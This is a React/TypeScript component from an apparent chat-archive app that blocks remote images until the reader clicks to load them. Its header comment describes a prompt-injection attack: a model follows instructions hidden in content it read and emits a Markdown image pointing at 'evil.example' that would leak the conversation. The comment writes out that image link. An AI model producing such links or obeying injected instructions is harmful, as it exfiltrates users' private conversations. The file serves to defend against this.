// Images from other sites load only when the reader asks (CHATKEEP_WEB_REMOTE_IMAGES, see config.ts).
//
// Why: a message's text comes from a model that may follow instructions hidden in what it read (a web page, a
// file), and `![](https://evil.example/?q=<the conversation>)` would send the conversation there the moment the
// thread opens. Until the click, the page contacts no other site: the placeholder shows the host it would.

import { type ReactNode, useState } from "react";
import { remoteImages } from "./config";
import { ImageIcon } from "./icons";

/** The host an image URL would contact, or null when it stays on this page: data:, blob: and same-origin URLs
 * (the server's own files). A URL that does not parse is treated as remote with no host. */
export function remoteHost(src: string): string | null {
  try {
    const url = new URL(src, window.location.href);
    if (url.protocol === "data:" || url.protocol === "blob:" || url.origin === window.location.origin) return null;
    return url.host || url.protocol;
  } catch {
    return "";
  }
}

function canLoad(src: string): boolean {
  try {
    return ["http:", "https:"].includes(new URL(src, window.location.href).protocol);
  } catch {
    return false;
  }
}

/** An `<img>` for a local image; for a remote one, a placeholder with "Load image" until it is clicked (or the
 * image itself when CHATKEEP_WEB_REMOTE_IMAGES is `always`). `wrap` puts the loaded image in a link. */
export function GatedImage({
  src,
  alt,
  testId,
  wrap,
}: {
  src: string;
  alt: string;
  testId?: string;
  wrap?: (image: ReactNode) => ReactNode;
}) {
  const host = remoteHost(src);
  const [loaded, setLoaded] = useState(false);
  if (host === null || loaded || (remoteImages === "always" && canLoad(src))) {
    const image = <img src={src} alt={alt} loading="lazy" data-testid={testId} />;
    return wrap ? wrap(image) : image;
  }
  return (
    <span className="remote-image" data-testid="remote-image" title={src}>
      <ImageIcon />
      <span className="remote-image-label">
        {alt ? <span className="remote-image-alt">{alt}</span> : null}
        <span>
          Image from <strong data-testid="remote-image-host">{host || "an unreadable address"}</strong>
        </span>
      </span>
      {remoteImages === "click" && canLoad(src) ? (
        <button
          type="button"
          className="btn btn-sm"
          data-testid="load-image"
          onClick={(e) => {
            // The placeholder may sit inside a Markdown link: load the image, do not follow the link.
            e.preventDefault();
            e.stopPropagation();
            setLoaded(true);
          }}
        >
          Load image
        </button>
      ) : null}
    </span>
  );
}
